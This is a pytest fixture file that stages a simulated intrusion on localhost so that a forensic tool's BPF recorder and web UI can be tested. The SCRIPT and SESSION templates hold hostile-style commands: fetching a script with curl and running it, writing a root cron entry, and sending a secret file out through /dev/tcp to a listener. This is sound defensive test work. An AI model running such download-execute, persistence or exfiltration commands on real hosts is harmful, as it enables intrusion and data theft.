"""Fixtures of the web UI tests: a real recorded intrusion, the UI served on it, a real chromium.

The intrusion is recorded once per test session by the real BPF sensor (``forensix record``
with its live rules): a "login" (loginuid written, as pam_loginuid does) downloads a script
from a local HTTP server with curl, makes it executable and runs it; the script drops a
cron file, copies a system binary to /tmp and runs it, and sends a file to a local TCP
listener. The recorder is started first and the intrusion waits for a go-ahead, so one test
can watch it arrive in the UI while the recording runs; the others use the finished store.
"""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import threading
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from forensix.store.embedded import open_reader, socket_path
from forensix.testing.scenario import free_port, wait_for
from forensix.web.app import create_app, stop_streams

REPO = Path(__file__).resolve().parents[2]
# screenshots of every view: test artefacts (CI keeps build/), looked at by people
SHOTS = Path(os.environ.get("FORENSIX_WEB_SHOTS", REPO / "build" / "web-screenshots"))
CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                 "--disable-background-networking", "--disable-component-update", "--disable-sync"]

SCRIPT = """#!/bin/bash
echo '* * * * * root /tmp/{tag}-copied' > {cron}
cp /usr/bin/id /tmp/{tag}-copied
/tmp/{tag}-copied > {work}/id.out
cat {work}/secret > /dev/tcp/127.0.0.1/{lport}
"""

SESSION = """
cd {work}
curl -s -o {work}/x.sh http://127.0.0.1:{hport}/x.sh
chmod +x {work}/x.sh
{work}/x.sh
"""

# the recorded command: wait for "go", run the login, say "did", wait for "stop"
DRIVER = """
for i in $(seq 600); do [ -e {work}/go ] && break; sleep 0.1; done
sh -c 'echo 4343 > /proc/self/loginuid && exec bash {work}/session.sh'
touch {work}/did
for i in $(seq 600); do [ -e {work}/stop ] && break; sleep 0.1; done
"""


# The exfiltration's receiver: a process of its own, as on a host another program takes the
# data. A listener thread in the test runner made the runner (which also drives chromium) the
# receiving process, so the incident's forward side went on into pytest and chromium.
LISTENER = """
import socket, sys
s = socket.socket()
s.bind(("127.0.0.1", 0))
s.listen(1)
print(s.getsockname()[1], flush=True)
c, _ = s.accept()
with open(sys.argv[1], "wb") as f:
    while chunk := c.recv(65536):
        f.write(chunk)
"""


def listener_process(out: Path) -> tuple[subprocess.Popen[str], int]:
    """A listener on 127.0.0.1 in a process of its own that writes what one connection sent to
    ``out``; its port."""
    proc = subprocess.Popen([sys.executable, "-c", LISTENER, str(out)], stdout=subprocess.PIPE, text=True)
    assert proc.stdout is not None
    line = proc.stdout.readline()
    assert line.strip().isdigit(), f"the listener did not start: {line!r}"
    return proc, int(line)


class UIServer:
    """The UI app under uvicorn on a free port, in a thread of the test process."""

    def __init__(self, store: Path) -> None:
        import uvicorn

        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)
        self.url = f"http://127.0.0.1:{self.sock.getsockname()[1]}"
        self.app = app = create_app(lambda: open_reader(store), str(store))
        self.server = uvicorn.Server(uvicorn.Config(app, log_level="warning", access_log=False))
        self.thread = threading.Thread(target=self.server.run, kwargs={"sockets": [self.sock]}, daemon=True)
        self.thread.start()
        wait_for(lambda: self.server.started, 20, "the UI server to start")

    def stop(self) -> None:
        stop_streams(self.app)  # a page's live stream would hold the server
        self.server.should_exit = True
        self.thread.join(timeout=10)
        self.sock.close()


@dataclass
class Scenario:
    work: Path
    store: Path
    cron: str
    tag: str
    hport: int
    lport: int
    ui: UIServer
    record: subprocess.Popen[str]
    listener: subprocess.Popen[str]
    finished: bool = False

    @property
    def received(self) -> bytes:
        """What the exfiltration's listener received."""
        out = self.work / "received"
        return out.read_bytes() if out.exists() else b""

    def go(self) -> None:
        (self.work / "go").touch()

    def finish(self) -> None:
        """Let the intrusion run (if no test did), then end the recording."""
        if self.finished:
            return
        self.go()
        wait_for(lambda: (self.work / "did").exists(), 120, "the intrusion to run")
        (self.work / "stop").touch()
        _, err = self.record.communicate(timeout=120)
        assert self.record.returncode == 0, err
        self.finished = True
        self.listener.wait(timeout=30)  # it exits once the script's connection closed
        assert b"the secret" in self.received


@pytest.fixture(scope="session")
def scenario(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Scenario]:
    if os.geteuid() != 0:
        pytest.fail("recording needs root (CI runs as root)")
    work = tmp_path_factory.mktemp("web-intrusion")
    tag = "fxweb" + uuid.uuid4().hex[:8]
    cron = Path("/etc/cron.d") / tag if Path("/etc/cron.d").is_dir() else work / "cron.d" / tag
    cron.parent.mkdir(exist_ok=True)
    (work / "www").mkdir()
    (work / "secret").write_text("the secret\n" * 100)
    lproc, lport = listener_process(work / "received")
    hport = free_port()
    (work / "www" / "x.sh").write_text(SCRIPT.format(tag=tag, cron=cron, work=work, lport=lport))
    (work / "session.sh").write_text(SESSION.format(work=work, hport=hport))
    (work / "driver.sh").write_text(DRIVER.format(work=work))
    http = subprocess.Popen([sys.executable, "-m", "http.server", str(hport), "--bind", "127.0.0.1",
                             "--directory", str(work / "www")], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    store = work / "case.duckdb"
    record = subprocess.Popen(
        [sys.executable, "-m", "forensix", "record", "--quiet", "--store", str(store), "--", "bash",
         str(work / "driver.sh")], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    ui = None
    try:
        wait_for(lambda: socket_path(store).exists() or record.poll() is not None, 60, "the recorder's query socket")
        assert record.poll() is None, record.communicate()[1]
        ui = UIServer(store)
        sc = Scenario(work, store, str(cron), tag, hport, lport, ui, record, lproc)
        yield sc
    finally:
        (work / "go").touch()
        (work / "stop").touch()
        try:
            record.wait(timeout=120)
        except subprocess.TimeoutExpired:
            record.kill()
        if ui is not None:
            ui.stop()
        http.terminate()
        http.wait(timeout=10)
        lproc.kill()
        lproc.wait(timeout=10)
        cron.unlink(missing_ok=True)
        Path(f"/tmp/{tag}-copied").unlink(missing_ok=True)


@pytest.fixture(scope="session")
def recorded(scenario: Scenario) -> Scenario:
    scenario.finish()
    return scenario


@pytest.fixture(scope="session")
def browser() -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        b = p.chromium.launch(executable_path="/usr/bin/chromium", args=CHROMIUM_ARGS)
        try:
            yield b
        finally:
            b.close()


@pytest.fixture
def page(browser: Any) -> Iterator[Any]:
    # bypass_csp: the page forbids eval, which wait_for_function needs (the app itself never evals)
    ctx = browser.new_context(viewport={"width": 1400, "height": 1000}, bypass_csp=True)
    pg = ctx.new_page()
    errors: list[str] = []
    pg.on("pageerror", lambda e: errors.append(str(e)))
    pg.errors = errors
    try:
        yield pg
    finally:
        ctx.close()
    assert not errors, errors  # a script error in the page fails the test


def open_view(page: Any, url: str, view: str | None = None) -> None:
    """Open a view and wait until its data is drawn (or its error shown)."""
    page.goto(url)
    page.wait_for_selector("main[data-loaded]", timeout=30_000)
    loaded = page.eval_on_selector("main", "m => m.dataset.loaded")
    if view is not None:
        assert loaded == view, page.inner_text("main")[:500]


def shot(page: Any, name: str) -> Path:
    """Save the view as a test artefact; a value drawn as "[object ...]" is a bug in the page."""
    assert "[object " not in page.inner_text("main"), page.inner_text("main")[:500]
    SHOTS.mkdir(parents=True, exist_ok=True)
    path = SHOTS / f"{name}.png"
    page.screenshot(path=str(path), full_page=True)
    return path
